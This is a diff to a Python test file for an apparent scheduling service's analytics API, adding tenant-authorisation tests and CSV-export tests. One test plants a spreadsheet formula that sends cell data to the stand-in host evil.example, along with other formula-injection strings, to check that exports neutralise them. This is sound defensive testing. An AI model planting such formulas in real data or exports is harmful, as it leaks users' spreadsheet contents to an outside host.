@@ -4,6 +4,8 @@ of every route and view function, event tracking and reports."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import uuid
 from collections.abc import AsyncIterator
@@ -14,6 +16,7 @@ import httpx
 import psycopg
 import pytest
 
+from slotease.analytics.reports import render
 from slotease.config import Settings
 from slotease.db.database import Database
 from slotease.ops import maintenance
@@ -353,8 +356,14 @@ async def test_signed_in_users_and_api_keys_record_events(
     t = tenants
     response = await client.post(
         "/v1/analytics/event",
-        json={"event_type": "page.view", "organization_id": str(t.org_b), "properties": {"p": 1}},
+        json={"event_type": "page.view", "properties": {"p": 1}},
         headers=t.customer.headers,
+    )
+    assert response.status_code == 202
+    response = await client.post(
+        "/v1/analytics/event",
+        json={"event_type": "desk.open", "organization_id": str(t.org_a)},
+        headers=t.staff_a.headers,
     )
     assert response.status_code == 202
     key = (await issue_api_key(client, t.org_a, t.admin_a, role="staff"))["key"]
@@ -363,13 +372,50 @@ async def test_signed_in_users_and_api_keys_record_events(
         "/v1/analytics/event", json={"event_type": "kiosk.touch"}, headers=kiosk
     )
     assert response.status_code == 202
-    assert _events(owner, "page.view") == [(t.org_b, t.customer.id, {"p": 1})]
+    assert _events(owner, "page.view") == [(None, t.customer.id, {"p": 1})]
+    assert _events(owner, "desk.open") == [(t.org_a, t.staff_a.id, {})]
     assert _events(owner, "kiosk.touch") == [(t.org_a, None, {})]
-
-    other = {"event_type": "kiosk.touch", "organization_id": str(t.org_b)}
-    assert_problem(await client.post("/v1/analytics/event", json=other, headers=kiosk), 403)
     assert_problem(await client.post("/v1/analytics/event", json={"event_type": "x"}), 401)
-    assert len(_events(owner, "kiosk.touch")) == 1
+
+
+async def test_events_for_an_organization_need_its_membership(
+    tenants: Tenants, owner: Owner, client: httpx.AsyncClient
+) -> None:
+    t = tenants
+    key = (await issue_api_key(client, t.org_a, t.admin_a, role="admin"))["key"]
+    before = owner.execute("select count(*) from public.analytics_events").fetchone()
+    for headers, org in (
+        (t.customer.headers, t.org_a),
+        (t.admin_b.headers, t.org_a),
+        ({"apikey": key}, t.org_b),
+        (t.admin_a.headers, uuid.uuid4()),
+    ):
+        body = {"event_type": "page.view", "organization_id": str(org)}
+        response = await client.post("/v1/analytics/event", json=body, headers=headers)
+        assert_problem(response, 404)
+    assert owner.execute("select count(*) from public.analytics_events").fetchone() == before
+
+
+@pytest.mark.parametrize(
+    "event_type",
+    ["appointment.completed", "ticket.served", "queue.paused", "notification.sent"],
+)
+async def test_the_domain_event_types_are_recorded_by_the_system_only(
+    tenants: Tenants, owner: Owner, client: httpx.AsyncClient, event_type: str
+) -> None:
+    t = tenants
+    key = (await issue_api_key(client, t.org_a, t.admin_a, role="staff"))["key"]
+    recorded = _events(owner, event_type)
+    for headers, org in (
+        (t.staff_a.headers, t.org_a),
+        (t.admin_a.headers, t.org_a),
+        ({"apikey": key}, None),
+        (t.customer.headers, None),
+    ):
+        body = {"event_type": event_type, "organization_id": org and str(org)}
+        response = await client.post("/v1/analytics/event", json=body, headers=headers)
+        assert_problem(response, 403)
+    assert _events(owner, event_type) == recorded
 
 
 @pytest.mark.parametrize(
@@ -480,6 +526,58 @@ async def test_reports_are_generated_and_downloaded(
     for outsider in (t.admin_b, t.staff_a):
         for url in (f"/v1/analytics/report/{report_id}", report["download_url"]):
             assert_problem(await client.get(url, headers=outsider.headers), 404)
+
+
+async def test_a_csv_report_runs_no_formula_from_a_comment(
+    tenants: Tenants, owner: Owner, client: httpx.AsyncClient, settings: Settings
+) -> None:
+    t = tenants
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    comments = {formula: "'" + formula, "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)"}
+    rated = owner.execute(
+        "select id from public.feedback where organization_id = %s order by id", (t.org_a,)
+    ).fetchall()
+    assert len(rated) >= len(comments)
+    try:
+        for (feedback_id,), comment in zip(rated, comments, strict=False):
+            owner.execute(
+                "update public.feedback set comment = %s where id = %s", (comment, feedback_id)
+            )
+        body = {
+            "organization_id": str(t.org_a),
+            "kind": "feedback",
+            "from": t.day.isoformat(),
+            "to": t.day.isoformat(),
+            "format": "csv",
+        }
+        response = await client.post("/v1/analytics/report", json=body, headers=t.admin_a.headers)
+        assert response.status_code == 202, response.text
+        async with worker_app(settings) as (app, _):
+            await run_jobs(app)
+        report = await _wait_ready(client, response.json()["report_id"], t.admin_a.headers)
+        download = await client.get(report["download_url"], headers=t.admin_a.headers)
+    finally:
+        owner.execute(
+            "update public.feedback set comment = null where organization_id = %s", (t.org_a,)
+        )
+    cells = list(csv.DictReader(io.StringIO(download.text)))
+    assert sorted(c["comment"] for c in cells if c["comment"]) == sorted(comments.values())
+    assert {c["rating"] for c in cells} <= set("12345")
+
+
+def test_numbers_stay_numbers_in_csv() -> None:
+    rows: list[dict[str, Any]] = [
+        {"day": "2026-12-01", "queue": "-Main", "estimate_error_minutes": -2.5, "served": -1},
+        {"day": "2026-12-02", "queue": "\t=1", "estimate_error_minutes": None, "served": 0},
+        {"day": "2026-12-03", "queue": "\r=1", "estimate_error_minutes": 1.5, "served": 2},
+    ]
+    content, _ = render("queues", "csv", "Queues", rows)
+    assert list(csv.reader(io.StringIO(content.decode()))) == [
+        ["day", "queue", "estimate_error_minutes", "served"],
+        ["2026-12-01", "'-Main", "-2.5", "-1"],
+        ["2026-12-02", "'\t=1", "", "0"],
+        ["2026-12-03", "'\r=1", "1.5", "2"],
+    ]
 
 
 async def test_a_report_request_is_validated(tenants: Tenants, client: httpx.AsyncClient) -> None:
